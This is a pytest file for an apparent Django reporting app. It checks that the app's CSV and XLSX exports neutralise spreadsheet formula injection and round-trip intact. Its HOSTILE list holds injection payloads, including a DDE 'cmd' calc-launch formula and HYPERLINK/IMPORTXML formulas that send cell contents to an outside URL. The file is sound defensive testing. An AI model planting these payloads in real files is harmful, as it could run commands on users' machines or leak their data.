"""Every file of the month and its findings: no cell of it runs in a spreadsheet, and it loads back equal."""

import csv
import io
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from typing import Any

import pytest
from pytest_django import DjangoDbBlocker
from python_calamine import CalamineWorkbook

from tallystick.findings.lines import Line
from tallystick.month.assessment import Assessment
from tallystick.month.export import RUN_BY_SPREADSHEETS, is_number, plain_cell
from tallystick.runs import queries, urls
from tests.site.landed import ALFA, TODAY, Landed, around_all, build, july

pytestmark = pytest.mark.django_db
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"more")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "'=1+1",
    "''@SUM(A1)",
    "'tis plain",
    "-",
    "00123",
    "1234567890123456789",
    "\uff1d1+1",
    'a "quoted" text, with a comma',
    "two\r\nlines",
)
MEASURE = "AREA-G"
Rows = list[list[str]]


@dataclass(frozen=True)
class Export:
    """A route that gives files, the address to ask, and what each line of the file is to hold."""

    route: str
    address: Callable[[Landed], str]
    told: Callable[[Landed], Rows]


def texts(number: int) -> str:
    return HOSTILE[number % len(HOSTILE)]


def hostile(month: Assessment) -> Assessment:
    """Return the month with a hostile text wherever somebody outside writes one."""
    figures = tuple(
        replace(one, title=texts(place), commentary=texts(place + 1))
        for place, one in enumerate(month.figures)
    )
    lines = tuple(
        Line(MEASURE, text, ALFA, "2021-07-01", texts(place + 1)) for place, text in enumerate(HOSTILE)
    )
    found = tuple(
        replace(one, why=texts(place), lines=lines if one.subject == ALFA else ())
        for place, one in enumerate(month.findings)
    )
    return replace(month, figures=figures, findings=found)


@pytest.fixture(scope="module")
def world(django_db_setup: None, django_db_blocker: DjangoDbBlocker) -> Iterator[Landed]:
    with around_all(django_db_blocker):
        yield build(hostile(july(known_on=str(TODAY))))


def of_figures(world: Landed, measure: str = "") -> Rows:
    every = [one for one in world.month.figures if measure in ("", one.measure)]
    return [[one.measure, one.title, one.commentary or ""] for one in every]


def of_findings(world: Landed) -> Rows:
    found = queries.findings_of(world.acting("jo"))
    return sorted([one.reference, one.obligation, one.why] for one in found)


def of_lines(world: Landed) -> Rows:
    return [[line.key, line.day, line.why] for one in world.month.findings for line in one.lines]


EXPORTS = (
    Export("month_as", lambda _: "/sec/performance/2021-07", of_figures),
    Export(
        "measure_month_as", lambda _: f"/sec/measures/{MEASURE}/2021-07", lambda w: of_figures(w, MEASURE)
    ),
    Export("findings_as", lambda _: "/sec/findings", of_findings),
    Export("lines", lambda w: f"/sec/findings/{w.finding(ALFA)}/lines", of_lines),
)
COLUMNS = {
    "month_as": ("measure", "title", "commentary"),
    "measure_month_as": ("measure", "title", "commentary"),
    "findings_as": ("reference", "obligation", "why"),
    "lines": ("key", "day", "why"),
}
# Rows that go back to their sender as they were sent are tried where they are written.
OTHERWISE = {"corrected"}


def as_csv(content: bytes) -> Rows:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def as_xlsx(content: bytes) -> Rows:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [[told(cell) for cell in row] for row in book.get_sheet_by_index(0).to_python()]


def told(cell: Any) -> str:
    """Return a cell of a workbook as the text it was written from; a number is whole where it was."""
    return f"{cell:g}" if isinstance(cell, float) else str(cell)


READ: dict[str, Callable[[bytes], Rows]] = {"csv": as_csv, "xlsx": as_xlsx}


class TestEveryExport:
    @pytest.mark.parametrize("form", READ)
    @pytest.mark.parametrize("export", EXPORTS, ids=lambda one: one.route)
    def test_has_no_cell_that_runs(self, world: Landed, export: Export, form: str) -> None:
        content = world.client("jo").get(f"{export.address(world)}.{form}").content

        run = [
            cell
            for row in READ[form](content)
            for cell in row
            if cell.startswith(RUN_BY_SPREADSHEETS) and not is_number(cell)
        ]

        assert run == []

    @pytest.mark.parametrize("form", READ)
    @pytest.mark.parametrize("export", EXPORTS, ids=lambda one: one.route)
    def test_loads_back_as_what_it_was(self, world: Landed, export: Export, form: str) -> None:
        content = world.client("jo").get(f"{export.address(world)}.{form}").content

        heading, *rows = READ[form](content)
        places = [heading.index(name) for name in COLUMNS[export.route]]
        loaded = [[plain_cell(row[place]) for place in places] for row in rows]
        if export.route == "findings_as":
            loaded.sort()
        wanted = [[unended(cell) for cell in row] for row in export.told(world)]
        assert wanted
        assert [[unended(cell) for cell in row] for row in loaded][: len(wanted)] == wanted

    def test_of_the_month_is_tried_here(self) -> None:
        giving = {
            str(one.name)
            for one in urls.urlpatterns
            if str(one.name).endswith("_as") or one.name in {"lines", *OTHERWISE}
        }

        assert giving == {one.route for one in EXPORTS} | OTHERWISE


def unended(text: str) -> str:
    """Return a text with one sort of line ending: a workbook knows no other."""
    return text.replace("\r\n", "\n")
